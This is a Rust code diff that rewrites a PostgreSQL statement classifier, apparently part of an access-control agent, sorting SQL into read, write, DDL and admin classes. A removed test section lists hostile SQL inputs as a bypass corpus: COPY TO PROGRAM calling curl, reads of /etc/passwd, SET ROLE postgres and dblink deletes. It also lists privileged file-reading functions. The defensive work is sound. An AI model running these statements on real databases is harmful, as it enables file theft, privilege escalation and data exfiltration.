-        | S::StartTransaction { .. }
-        | S::Commit { .. }
-        | S::Rollback { .. }
-        | S::Savepoint { .. }
-        | S::ReleaseSavepoint { .. }
-        | S::Declare { .. }
-        | S::Fetch { .. }
-        | S::Close { .. }
-        | S::Deallocate { .. }
-        | S::Discard { .. }
-        | S::ShowVariable { .. }
-        | S::ShowVariables { .. } => Class::Read,
-        S::Insert(_) | S::Update(_) | S::Delete(_) | S::Merge(_) | S::Truncate(_) | S::Lock(_) => {
-            Class::Write
-        }
-        S::Copy { target, to, .. } => match target {
-            CopyTarget::Program { .. } | CopyTarget::File { .. } => Class::Admin,
-            _ if *to => Class::Read,
-            _ => Class::Write,
-        },
-        // EXECUTE runs a statement prepared earlier, whose text we may not have.
-        S::Execute { .. } => Class::Unknown,
-        S::Set(set) => match set {
-            Set::SetRole { .. } | Set::SetSessionAuthorization(_) => Class::Admin,
-            Set::SingleAssignment { variable, .. } => {
-                if ADMIN_SETTINGS.contains(&last_part(variable).as_str()) {
-                    Class::Admin
-                } else {
-                    Class::Read
+impl<'t> Visitor<'t> for Classifier {
+    fn enter(&mut self, n: Ref<'t>) -> bool {
+        match n {
+            Ref::SelectStmt(s) => {
+                self.statement("SelectStmt");
+                if s.into_clause.is_some() {
+                    // SELECT … INTO creates a table.
+                    self.raise(Class::Ddl);
+                }
+                if !s.locking_clause.is_empty() {
+                    // Row locks (FOR UPDATE/SHARE) are writes in all but name.
+                    self.raise(Class::Write);
                 }
             }
-            Set::ParenthesizedAssignments { variables, .. } => {
-                if variables
-                    .iter()
-                    .any(|v| ADMIN_SETTINGS.contains(&last_part(v).as_str()))
+            Ref::RangeVar(rv) => self.table(rv),
+            Ref::FuncCall(f) => {
+                let parts = strings(&f.funcname);
+                self.call(&parts, &f.args);
+            }
+            Ref::AExpr(e) => self.operator(e),
+            Ref::ColumnRef(c) => {
+                for part in strings(&c.fields) {
+                    self.names.insert(part.to_lowercase());
+                }
+            }
+            Ref::VariableSetStmt(s) => {
+                self.statement("VariableSetStmt");
+                let kind = pb::VariableSetKind::try_from(s.kind).unwrap_or_default();
+                let name = s.name.to_ascii_lowercase();
+                if kind == pb::VariableSetKind::VarResetAll
+                    || ADMIN_SETTINGS.contains(&name.as_str())
                 {
-                    Class::Admin
-                } else {
-                    Class::Read
+                    self.raise(Class::Admin);
                 }
             }
-            _ => Class::Admin,
-        },
-        S::Drop { object_type, .. } => match object_type {
-            ObjectType::Role | ObjectType::User | ObjectType::Database => Class::Admin,
-            _ => Class::Ddl,
-        },
-        S::Grant(_) | S::Revoke(_) | S::CreateRole(_) | S::AlterRole { .. } | S::Call(_) => {
-            Class::Admin
+            Ref::CopyStmt(c) => {
+                self.statement("CopyStmt");
+                self.raise(if c.is_program || !c.filename.is_empty() {
+                    Class::Admin
+                } else if c.is_from {
+                    Class::Write
+                } else {
+                    Class::Read
+                });
+            }
+            Ref::TransactionStmt(t) => {
+                self.statement("TransactionStmt");
+                use pb::TransactionStmtKind as K;
+                if matches!(
+                    K::try_from(t.kind),
+                    Ok(K::TransStmtPrepare | K::TransStmtCommitPrepared | K::TransStmtRollbackPrepared)
+                ) {
+                    // Two-phase commit: ends transactions of other sessions.
+                    self.raise(Class::Admin);
+                }
+            }
+            Ref::DropStmt(d) => {
+                use pb::ObjectType as O;
+                let kind = O::try_from(d.remove_type).unwrap_or_default();
+                let relations = matches!(
+                    kind,
+                    O::ObjectTable
+                        | O::ObjectView
+                        | O::ObjectMatview
+                        | O::ObjectIndex
+                        | O::ObjectSequence
+                        | O::ObjectForeignTable
+                );
+                self.raise(match kind {
+                    O::ObjectExtension
+                    | O::ObjectFdw
+                    | O::ObjectForeignServer
+                    | O::ObjectEventTrigger
+                    | O::ObjectAccessMethod
+                    | O::ObjectLanguage
+                    | O::ObjectPublication
+                    | O::ObjectUserMapping => Class::Admin,
+                    _ => Class::Ddl,
+                });
+                if relations {
+                    for o in &d.objects {
+                        if let Some(pb::node::Node::List(l)) = &o.node {
+                            let parts = strings(&l.items);
+                            let (name, schema) = match parts[..] {
+                                [.., s, n] => (n, s),
+                                [n] => (n, ""),
+                                [] => continue,
+                            };
+                            self.tables.insert(qualified(&[schema, name]));
+                        }
+                    }
+                } else {
+                    self.tables_known = false;
+                }
+            }
+            Ref::PrepareStmt(p) => {
+                self.statement("PrepareStmt");
+                self.forgets.names.push(p.name.clone());
+            }
+            Ref::DeallocateStmt(d) => {
+                self.statement("DeallocateStmt");
+                if d.isall || d.name.is_empty() {
+                    self.forgets.all = true;
+                } else {
+                    self.forgets.names.push(d.name.clone());
+                }
+            }
+            Ref::DiscardStmt(d) => {
+                self.statement("DiscardStmt");
+                if pb::DiscardMode::try_from(d.target) == Ok(pb::DiscardMode::DiscardAll) {
+                    self.forgets.all = true;
+                }
+            }
+            Ref::DoStmt(_) => {
+                self.statement("DoStmt");
+                self.outlets.insert("DO".to_owned());
+            }
+            other => {
+                let kind = other.name();
+                if kind.ends_with("Stmt") && kind != "RawStmt" {
+                    self.statement(kind);
+                }
+            }
         }
-        other => by_keyword(other),
+        true
     }
 }
 
-/// The rest, by the statement's leading keywords.
-fn by_keyword(s: &Statement) -> Class {
-    let text = s.to_string().to_ascii_uppercase();
-    let mut words = text.split_whitespace();
-    let first = words.next().unwrap_or_default();
-    let second = words.next().unwrap_or_default();
-    match first {
-        "CREATE" | "ALTER" | "DROP" | "COMMENT" => match second {
-            "ROLE" | "USER" | "GROUP" | "DATABASE" | "EXTENSION" | "SERVER" | "SYSTEM" => {
-                Class::Admin
-            }
-            _ => Class::Ddl,
+/// The string parts of a name list (`String` nodes).
+fn strings(nodes: &[pb::Node]) -> Vec<&str> {
+    nodes
+        .iter()
+        .filter_map(|n| match &n.node {
+            Some(pb::node::Node::String(s)) => Some(s.sval.as_str()),
+            _ => None,
+        })
+        .collect()
+}
+
+/// The text of a string literal (`'…'`, also cast: `'…'::text`).
+fn literal(n: &pb::Node) -> Option<&str> {
+    match n.node.as_ref()? {
+        pb::node::Node::AConst(c) => match c.val.as_ref()? {
+            pb::a_const::Val::Sval(s) => Some(&s.sval),
+            _ => None,
         },
-        "LISTEN" | "UNLISTEN" | "NOTIFY" | "SHOW" | "RESET" => Class::Read,
-        "GRANT" | "REVOKE" | "VACUUM" | "ANALYZE" | "CHECKPOINT" | "REINDEX" | "CLUSTER"
-        | "LOAD" | "KILL" => Class::Admin,
-        _ => Class::Unknown,
+        pb::node::Node::TypeCast(t) => literal(t.arg.as_ref()?),
+        _ => None,
     }
+}
+
+/// A name as the server resolved it, parts joined by `.` (empty parts
+/// left out); a part holding `.` or `"` is quoted.
+pub fn qualified(parts: &[&str]) -> String {
+    let mut out = String::new();
+    for p in parts.iter().filter(|p| !p.is_empty()) {
+        if !out.is_empty() {
+            out.push('.');
+        }
+        if p.contains(['.', '"']) {
+            out.push('"');
+            out.push_str(&p.replace('"', "\"\""));
+            out.push('"');
+        } else {
+            out.push_str(p);
+        }
+    }
+    out
+}
+
+/// The command of a top-level statement, as rules name it.
+fn command(n: &pb::node::Node) -> Option<&'static str> {
+    use pb::node::Node as N;
+    Some(match n {
+        N::SelectStmt(_) => "SELECT",
+        N::InsertStmt(_) => "INSERT",
+        N::UpdateStmt(_) => "UPDATE",
+        N::DeleteStmt(_) => "DELETE",
+        N::MergeStmt(_) => "MERGE",
+        N::CopyStmt(_) => "COPY",
+        N::DoStmt(_) => "DO",
+        N::CallStmt(_) => "CALL",
+        N::TruncateStmt(_) => "TRUNCATE",
+        N::LockStmt(_) => "LOCK",
+        N::NotifyStmt(_) => "NOTIFY",
+        N::ListenStmt(_) => "LISTEN",
+        N::UnlistenStmt(_) => "UNLISTEN",
+        N::VariableSetStmt(s) => {
+            let kind = pb::VariableSetKind::try_from(s.kind).unwrap_or_default();
+            match kind {
+                pb::VariableSetKind::VarReset | pb::VariableSetKind::VarResetAll => "RESET",
+                _ => "SET",
+            }
+        }
+        N::VariableShowStmt(_) => "SHOW",
+        N::PrepareStmt(_) => "PREPARE",
+        N::ExecuteStmt(_) => "EXECUTE",
+        N::DeallocateStmt(_) => "DEALLOCATE",
+        N::DiscardStmt(_) => "DISCARD",
+        N::ExplainStmt(_) => "EXPLAIN",
+        N::VacuumStmt(v) if !v.is_vacuumcmd => "ANALYZE",
+        N::VacuumStmt(_) => "VACUUM",
+        N::ClusterStmt(_) => "CLUSTER",
+        N::ReindexStmt(_) => "REINDEX",
+        N::CheckPointStmt(_) => "CHECKPOINT",
+        N::LoadStmt(_) => "LOAD",
+        N::GrantStmt(g) => {
+            if g.is_grant {
+                "GRANT"
+            } else {
+                "REVOKE"
+            }
+        }
+        N::GrantRoleStmt(g) => {
+            if g.is_grant {
+                "GRANT"
+            } else {
+                "REVOKE"
+            }
+        }
+        N::TransactionStmt(t) => {
+            use pb::TransactionStmtKind as K;
+            match K::try_from(t.kind).unwrap_or_default() {
+                K::TransStmtBegin | K::TransStmtStart => "BEGIN",
+                K::TransStmtCommit | K::TransStmtCommitPrepared => "COMMIT",
+                K::TransStmtRollback | K::TransStmtRollbackTo | K::TransStmtRollbackPrepared => {
+                    "ROLLBACK"
+                }
+                K::TransStmtSavepoint => "SAVEPOINT",
+                K::TransStmtRelease => "RELEASE",
+                K::TransStmtPrepare => "PREPARE",
+                K::Undefined => return None,
+            }
+        }
+        N::DeclareCursorStmt(_) => "DECLARE",
+        N::FetchStmt(_) => "FETCH",
+        N::ClosePortalStmt(_) => "CLOSE",
+        N::RefreshMatViewStmt(_) => "REFRESH",
+        N::CommentStmt(_) => "COMMENT",
+        N::DropStmt(_) | N::DropRoleStmt(_) | N::DropdbStmt(_) | N::DropOwnedStmt(_) => "DROP",
+        N::AlterTableStmt(_) | N::AlterRoleStmt(_) | N::AlterSystemStmt(_) => "ALTER",
+        N::CreateStmt(_)
+        | N::CreateRoleStmt(_)
+        | N::ViewStmt(_)
+        | N::IndexStmt(_)
+        | N::CreateFunctionStmt(_)
+        | N::CreateTableAsStmt(_)
+        | N::CreateSchemaStmt(_)
+        | N::CreateExtensionStmt(_) => "CREATE",
+        _ => return None,
+    })
+}
+
+/// Settings whose change is a privilege change, or that turn off checks
+/// that protect data (`session_replication_role = replica` skips triggers
+/// and foreign keys).
+const ADMIN_SETTINGS: &[&str] = &[
+    "role",
+    "session_authorization",
+    "search_path",
+    "session_replication_role",
+];
+
+/// Statement kinds whose every table the walk finds (the rest leave the
+/// table list in doubt).
+const TABLES_LISTED: &[&str] = &[
+    "SelectStmt",
+    "InsertStmt",
+    "UpdateStmt",
+    "DeleteStmt",
+    "MergeStmt",
+    "TruncateStmt",
+    "LockStmt",
+    "CopyStmt",
+    "DropStmt",
+    "ExplainStmt",
+    "PrepareStmt",
+    "DeclareCursorStmt",
+    "TransactionStmt",
+    "FetchStmt",
+    "ClosePortalStmt",
+    "DeallocateStmt",
+    "DiscardStmt",
+    "VariableShowStmt",
+    "VariableSetStmt",
+    "ConstraintsSetStmt",
+    "ListenStmt",
+    "UnlistenStmt",
+    "NotifyStmt",
+];
+
+/// The class of a statement node by its type's name; `None`: a statement
+/// kind this agent does not know (it is `unknown`).
+fn statement_class(kind: &str) -> Option<Class> {
+    use Class::*;
+    Some(match kind {
+        "SelectStmt" | "VariableShowStmt" | "TransactionStmt" | "DeclareCursorStmt"
+        | "FetchStmt" | "ClosePortalStmt" | "PrepareStmt" | "DeallocateStmt" | "DiscardStmt"
+        | "ListenStmt" | "UnlistenStmt" | "ExplainStmt" | "ConstraintsSetStmt"
+        | "VariableSetStmt" | "CopyStmt" => Read,
+        "InsertStmt" | "UpdateStmt" | "DeleteStmt" | "MergeStmt" | "TruncateStmt" | "LockStmt"
+        | "NotifyStmt" | "RefreshMatViewStmt" | "CallStmt" => Write,
+        "CreateSchemaStmt" | "AlterTableStmt" | "ReplicaIdentityStmt" | "AlterCollationStmt"
+        | "AlterDomainStmt" | "CreateStmt" | "CreateForeignTableStmt" | "CreatePolicyStmt"
+        | "AlterPolicyStmt" | "CreateTrigStmt" | "CreateSeqStmt" | "AlterSeqStmt"
+        | "DefineStmt" | "CreateDomainStmt" | "CreateOpClassStmt" | "CreateOpFamilyStmt"
+        | "AlterOpFamilyStmt" | "DropStmt" | "CommentStmt" | "IndexStmt" | "CreateStatsStmt"
+        | "AlterStatsStmt" | "CreateFunctionStmt" | "AlterFunctionStmt" | "RenameStmt"
+        | "AlterObjectDependsStmt" | "AlterObjectSchemaStmt" | "AlterOperatorStmt"
+        | "AlterTypeStmt" | "RuleStmt" | "CompositeTypeStmt" | "CreateEnumStmt"
+        | "CreateRangeStmt" | "AlterEnumStmt" | "ViewStmt" | "CreateTableAsStmt"
+        | "CreateConversionStmt" | "CreateCastStmt" | "CreateTransformStmt"
+        | "AlterTsdictionaryStmt" | "AlterTsconfigurationStmt" => Ddl,
+        "GrantStmt" | "GrantRoleStmt" | "AlterDefaultPrivilegesStmt" | "CreateTableSpaceStmt"
+        | "DropTableSpaceStmt" | "AlterTableSpaceOptionsStmt" | "AlterTableMoveAllStmt"
+        | "CreateExtensionStmt" | "AlterExtensionStmt" | "AlterExtensionContentsStmt"
+        | "CreateFdwStmt" | "AlterFdwStmt" | "CreateForeignServerStmt"
+        | "AlterForeignServerStmt" | "CreateUserMappingStmt" | "AlterUserMappingStmt"
+        | "DropUserMappingStmt" | "ImportForeignSchemaStmt" | "CreateAmStmt"
+        | "CreateEventTrigStmt" | "AlterEventTrigStmt" | "CreatePlangStmt" | "CreateRoleStmt"
+        | "AlterRoleStmt" | "AlterRoleSetStmt" | "DropRoleStmt" | "SecLabelStmt"
+        | "LoadStmt" | "CreatedbStmt" | "AlterDatabaseStmt" | "AlterDatabaseRefreshCollStmt"
+        | "AlterDatabaseSetStmt" | "DropdbStmt" | "AlterSystemStmt" | "ClusterStmt"
+        | "VacuumStmt" | "CheckPointStmt" | "ReindexStmt" | "DropOwnedStmt"
+        | "ReassignOwnedStmt" | "CreatePublicationStmt" | "AlterPublicationStmt"
+        | "CreateSubscriptionStmt" | "AlterSubscriptionStmt" | "DropSubscriptionStmt"
+        | "AlterOwnerStmt" => Admin,
+        // Runs code or a statement whose text is not here.
+        "DoStmt" | "ExecuteStmt" => Unknown,
+        _ => return None,
+    })
+}
+
+/// What calling a built-in function does.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Effect {
+    Class(Class),
+    /// Of this class, and it carries data where masking does not reach.
+    Outlet(Class),
+    /// Runs the SQL text in this argument (read, and that SQL's class).
+    RunsSql(usize),
+    /// Reads the whole table named in this argument.
+    ReadsTable(usize),
+    Unknown(&'static str),
+}
+
+/// Built-in functions that read or write outside the database, end other
+/// sessions, change settings or privileges, or drive replication and
+/// backups: `admin`.
+const ADMIN_FUNCTIONS: &[&str] = &[
+    "lo_export",
+    "lo_import",
+    "pg_backup_start",
+    "pg_backup_stop",
+    "pg_cancel_backend",
+    "pg_copy_logical_replication_slot",
+    "pg_copy_physical_replication_slot",
+    "pg_create_logical_replication_slot",
+    "pg_create_physical_replication_slot",
+    "pg_create_restore_point",
+    "pg_drop_replication_slot",
+    "pg_extension_config_dump",
+    "pg_import_system_collations",
+    "pg_log_backend_memory_contexts",
+    "pg_ls_archive_statusdir",
+    "pg_ls_dir",
+    "pg_ls_logdir",
+    "pg_ls_logicalmapdir",
+    "pg_ls_logicalsnapdir",
+    "pg_ls_replslotdir",
+    "pg_ls_tmpdir",
+    "pg_ls_waldir",
+    "pg_nextoid",
+    "pg_promote",
+    "pg_read_binary_file",
+    "pg_read_file",
+    "pg_read_file_old",
+    "pg_reload_conf",
+    "pg_replication_origin_advance",
+    "pg_replication_origin_create",
+    "pg_replication_origin_drop",
+    "pg_replication_origin_session_reset",
+    "pg_replication_origin_session_setup",
+    "pg_replication_origin_xact_reset",
+    "pg_replication_origin_xact_setup",
+    "pg_replication_slot_advance",
+    "pg_rotate_logfile",
+    "pg_rotate_logfile_old",
+    "pg_start_backup",
+    "pg_stat_file",
+    "pg_stop_backup",
+    "pg_stop_making_pinned_objects",
+    "pg_switch_wal",
+    "pg_terminate_backend",
+    "pg_wal_replay_pause",
+    "pg_wal_replay_resume",
+    "set_config",
+];
+
+/// Built-ins that carry data out of sight of the result rows (masking
+/// cannot reach them): notifications, logical decoding.
+const OUTLET_FUNCTIONS: &[(&str, Class)] = &[
+    ("pg_logical_emit_message", Class::Admin),
+    ("pg_logical_slot_get_binary_changes", Class::Admin),
+    ("pg_logical_slot_get_changes", Class::Admin),
+    ("pg_logical_slot_peek_binary_changes", Class::Admin),
+    ("pg_logical_slot_peek_changes", Class::Admin),
+    ("pg_notify", Class::Write),
+];
+
+/// Built-ins the catalog marks volatile that change nothing another
+/// statement can see beyond the session's own clock, random state, sleep,
+/// advisory locks or open large-object descriptors, or that only read
+/// statistics and sizes: `read` (reviewed one by one; every other volatile
+/// built-in is at least `write`).
+const VOLATILE_READS: &[&str] = &[
+    "amvalidate",
+    "clock_timestamp",
+    "current_query",
+    "currtid2",
+    "currval",
+    "cursor_to_xml",
+    "cursor_to_xmlschema",
+    "gen_random_uuid",
+    "lastval",
+    "lo_close",
+    "lo_get",
+    "lo_lseek",
+    "lo_lseek64",
+    "lo_open",
+    "lo_tell",
+    "lo_tell64",
+    "loread",
+    "pg_advisory_lock",
+    "pg_advisory_lock_shared",
+    "pg_advisory_unlock",
+    "pg_advisory_unlock_all",
+    "pg_advisory_unlock_shared",
+    "pg_advisory_xact_lock",
+    "pg_advisory_xact_lock_shared",
+    "pg_blocking_pids",
+    "pg_collation_actual_version",
+    "pg_control_checkpoint",
+    "pg_control_init",
+    "pg_control_recovery",
+    "pg_control_system",
+    "pg_current_logfile",
+    "pg_current_wal_flush_lsn",
+    "pg_current_wal_insert_lsn",
+    "pg_current_wal_lsn",
+    "pg_database_collation_actual_version",
+    "pg_database_size",
+    "pg_export_snapshot",
+    "pg_get_backend_memory_contexts",
+    "pg_get_multixact_members",
+    "pg_get_shmem_allocations",
+    "pg_get_wal_replay_pause_state",
+    "pg_get_wal_resource_managers",
+    "pg_hba_file_rules",
+    "pg_ident_file_mappings",
+    "pg_indexes_size",
+    "pg_is_in_recovery",
+    "pg_is_wal_replay_paused",
+    "pg_isolation_test_session_is_blocked",
+    "pg_jit_available",
+    "pg_last_committed_xact",
+    "pg_last_wal_receive_lsn",
+    "pg_last_wal_replay_lsn",
+    "pg_last_xact_replay_timestamp",
+    "pg_lock_status",
+    "pg_notification_queue_usage",
+    "pg_partition_ancestors",
+    "pg_partition_tree",
+    "pg_prepared_xact",
+    "pg_relation_size",
+    "pg_replication_origin_progress",
+    "pg_replication_origin_session_is_setup",
+    "pg_replication_origin_session_progress",
+    "pg_safe_snapshot_blocking_pids",
+    "pg_sequence_last_value",
+    "pg_show_all_file_settings",
+    "pg_show_replication_origin_status",
+    "pg_sleep",
+    "pg_sleep_for",
+    "pg_sleep_until",
+    "pg_stat_clear_snapshot",
+    "pg_stat_force_next_flush",
+    "pg_stat_have_stats",
+    "pg_table_size",
+    "pg_tablespace_size",
+    "pg_total_relation_size",
+    "pg_try_advisory_lock",
+    "pg_try_advisory_lock_shared",
+    "pg_try_advisory_xact_lock",
+    "pg_try_advisory_xact_lock_shared",
+    "pg_xact_commit_timestamp",
+    "pg_xact_commit_timestamp_origin",
+    "pg_xact_status",
+    "random",
+    "setseed",
+    "timeofday",
+    "txid_current",
+    "txid_current_if_assigned",
+    "txid_status",
+];
+
+/// Built-ins that run SQL given as text (the argument's index).
+const RUNS_SQL: &[(&str, usize)] = &[
+    ("query_to_xml", 0),
+    ("query_to_xml_and_xmlschema", 0),
+    ("query_to_xmlschema", 0),
+    ("ts_stat", 0),
+];
+
+/// Built-ins that read a whole table named by a value (the argument's
+/// index).
+const READS_TABLE: &[(&str, usize)] = &[
+    ("table_to_xml", 0),
+    ("table_to_xml_and_xmlschema", 0),
+    ("table_to_xmlschema", 0),
+];
+
+/// What calling `schema.name` (`None`: unqualified) does, if it is a
+/// built-in this agent knows; `None` otherwise (the caller treats it as a
+/// function of the database's own).
+///
+/// An unqualified name resolves to `pg_catalog` first (the server searches
+/// it before the search path, which SET is refused for, unless a rule
+/// allows `admin`). A function of another schema with the same name but
+/// other argument types can still be the one the server picks: this agent
+/// cannot see the database's catalog.
+fn builtin(schema: Option<&str>, name: &str) -> Option<Effect> {
+    let schema = schema.unwrap_or("pg_catalog");
+    if schema != "pg_catalog" && schema != "information_schema" {
+        return None;
+    }
+    let at = functions::BUILTIN
+        .binary_search_by(|(s, n, _)| (*s, *n).cmp(&(schema, name)))
+        .ok()?;
+    let volatility = functions::BUILTIN[at].2;
+    let found = |list: &[(&str, usize)]| list.iter().find(|(n, _)| *n == name).map(|e| e.1);
+    Some(if let Some(arg) = found(RUNS_SQL) {
+        Effect::RunsSql(arg)
+    } else if let Some(arg) = found(READS_TABLE) {
+        Effect::ReadsTable(arg)
+    } else if name.starts_with("schema_to_xml") || name.starts_with("database_to_xml") {
+        Effect::Unknown("reads every table of a schema or database")
+    } else if name == "ts_rewrite" {
+        // Its two-argument form runs SQL given as text.
+        Effect::Unknown("may run SQL given as text")
+    } else if let Some((_, c)) = OUTLET_FUNCTIONS.iter().find(|(n, _)| *n == name) {
+        Effect::Outlet(*c)
+    } else if ADMIN_FUNCTIONS.contains(&name)
+        || name.starts_with("binary_upgrade_")
+        || name.starts_with("pg_stat_reset")
+    {
+        Effect::Class(Class::Admin)
+    } else if volatility != b'v'
+        || VOLATILE_READS.contains(&name)
+        || name.starts_with("pg_stat_get_")
+    {
+        Effect::Class(Class::Read)
+    } else {
+        Effect::Class(Class::Write)
+    })
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn class(sql: &str) -> Class {
-        classify(sql).class
-    }
-
-    #[test]
-    fn plain_statements() {
-        assert_eq!(class("select * from orders where id = $1"), Class::Read);
-        assert_eq!(class("INSERT INTO orders VALUES (1)"), Class::Write);
-        assert_eq!(class("update orders set x = 1"), Class::Write);
-        assert_eq!(class("delete from orders"), Class::Write);
-        assert_eq!(class("truncate orders"), Class::Write);
-        assert_eq!(class("create table t (a int)"), Class::Ddl);
-        assert_eq!(class("alter table t add column b int"), Class::Ddl);
-        assert_eq!(class("drop table t"), Class::Ddl);
-        assert_eq!(class("create role x login"), Class::Admin);
-        assert_eq!(class("grant select on t to x"), Class::Admin);
-        assert_eq!(class("begin"), Class::Read);
-        assert_eq!(class("commit"), Class::Read);
-        assert_eq!(class(""), Class::Read);
-        assert_eq!(class("this is not sql"), Class::Unknown);
-    }
-
-    /// Known ways to hide a write or an admin action inside something else.
-    #[test]
-    fn bypass_corpus() {
-        let cases = [
-            (
-                "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
-                Class::Write,
-            ),
-            ("EXPLAIN ANALYZE DELETE FROM orders", Class::Write),
-            (
-                "COPY (DELETE FROM orders RETURNING *) TO STDOUT",
-                Class::Write,
-            ),
-            ("COPY orders TO PROGRAM 'curl evil'", Class::Admin),
-            ("COPY orders FROM '/etc/passwd'", Class::Admin),
-            ("COPY orders FROM STDIN", Class::Write),
-            ("COPY orders TO STDOUT", Class::Read),
-            ("SELECT lowrite(lo_open(1, 131072), 'x')", Class::Write),
-            ("SELECT setval('orders_id_seq', 1)", Class::Write),
-            ("SELECT pg_catalog.pg_switch_wal()", Class::Admin),
-            ("DO $$ BEGIN DELETE FROM orders; END $$", Class::Unknown),
-            ("CALL cleanup()", Class::Admin),
-            ("PREPARE p AS DELETE FROM orders", Class::Write),
-            ("EXECUTE p", Class::Unknown),
-            ("SELECT 1; DELETE FROM orders", Class::Write),
-            (
-                "SELECT /* harmless */ 1; -- comment\n DROP TABLE orders",
-                Class::Ddl,
-            ),
-            ("SET ROLE postgres", Class::Admin),
-            ("SET SESSION AUTHORIZATION postgres", Class::Admin),
-            ("SET search_path = evil, public", Class::Admin),
-            ("SET statement_timeout = 1000", Class::Read),
-            ("SELECT set_config('role', 'postgres', false)", Class::Admin),
-            ("SELECT pg_read_file('/etc/passwd')", Class::Admin),
-            ("SELECT lo_export(1234, '/tmp/x')", Class::Admin),
-            (
-                "SELECT * FROM dblink('host=x', 'delete from t') AS t(a int)",
-                Class::Admin,
-            ),
-            ("SELECT pg_catalog.pg_read_file('x')", Class::Admin),
-            ("SELECT * FROM orders FOR UPDATE", Class::Write),
-            ("SELECT * INTO newtable FROM orders", Class::Ddl),
-            ("SELECT $$DELETE FROM orders$$", Class::Read),
-        ];
-        for (sql, want) in cases {
-            assert_eq!(class(sql), want, "{sql}");
-        }
-    }
-
-    #[test]
-    fn tables_are_listed() {
-        let c = classify("select * from public.Orders o join \"Line Items\" l on true; delete from billing.invoices");
-        assert_eq!(
-            &c.tables[..],
-            ["billing.invoices", "line items", "public.orders"]
-        );
-        assert_eq!(c.statements, 2);
-    }
-
-    #[test]
-    fn deep_nesting_does_not_crash() {
-        let sql = format!("select {}1{}", "(".repeat(5000), ")".repeat(5000));
-        let c = classify(&sql);
-        assert!(matches!(c.class, Class::Read | Class::Unknown));
-    }
-
-    /// Statements that share a classification key classify alike. Pairs
-    /// are built from the same code with values and comments of the same
-    /// kinds but other contents, drawn from what confuses scanners (quotes,
-    /// backslashes, dollar tags, comment markers, carriage returns, hidden
-    /// statements). Where the keys match, the classification must too;
-    /// otherwise a harmless statement could lend its class to a harmful one.
-    #[test]
-    fn a_shared_classification_key_means_a_shared_classification() {
-        const CODE: &[&str] = &[
-            "SELECT ",
-            "DELETE FROM victim",
-            "; ",
-            ", ",
-            " FROM t",
-            " AS a",
-            "(",
-            ")",
-            " WHERE x = ",
-            "INSERT INTO t VALUES (",
-            "name",
-            "E",
-            " ",
-        ];
-        const ATOMS: &[&str] = &[
-            "x",
-            "x",
-            "ab",
-            " ",
-            " ",
-            "1",
-            "'",
-            "''",
-            "\\",
-            "$",
-            "$q$",
-            "/*",
-            "*/",
-            "--",
-            "\n",
-            "\r",
-            ";",
-            " DELETE FROM victim ",
-            " SELECT 2 ",
-            "\u{e9}",
-            "\"",
-            "\x0b",
-        ];
-        let mut seed = 0x2545_f491_4f6c_dd1du64;
-        let mut next = move |n: usize| {
-            seed ^= seed << 13;
-            seed ^= seed >> 7;
-            seed ^= seed << 17;
-            (seed % n as u64) as usize
-        };
-        let (mut same, mut key_a, mut key_b) = (0, String::new(), String::new());
-        for _ in 0..4000 {
-            let (mut a, mut b) = (String::new(), String::new());
-            for _ in 0..1 + next(6) {
-                let code = CODE[next(CODE.len())];
-                a.push_str(code);
-                b.push_str(code);
-                let slot = next(7);
-                for text in [&mut a, &mut b] {
-                    let content: String = (0..next(4)).map(|_| ATOMS[next(ATOMS.len())]).collect();
-                    let digits: String = (0..1 + next(3)).map(|_| ATOMS[5]).collect();
-                    text.push_str(&match slot {
-                        0 => format!("'{content}'"),
-                        1 => format!("E'{content}'"),
-                        2 => format!("$q${content}$q$"),
-                        3 => format!("/*{content}*/"),
-                        4 => format!("--{content}\n"),
-                        5 => digits,
-                        _ => format!("\"{content}\""),
-                    });
-                }
-            }
-            let cacheable = crate::redact::classification_key(&a, &mut key_a)
-                && crate::redact::classification_key(&b, &mut key_b);
-            if !cacheable || key_a != key_b {
-                continue;
-            }
-            same += 1;
-            let (ca, cb) = (classify(&a), classify(&b));
-            assert_eq!(
-                (ca.class, &ca.tables, ca.statements),
-                (cb.class, &cb.tables, cb.statements),
-                "{a:?} and {b:?} share the key {key_a:?}"
-            );
-        }
-        assert!(
-            same > 400,
-            "only {same} pairs shared a key: the test lost its teeth"
-        );
-    }
-}
+mod tests;
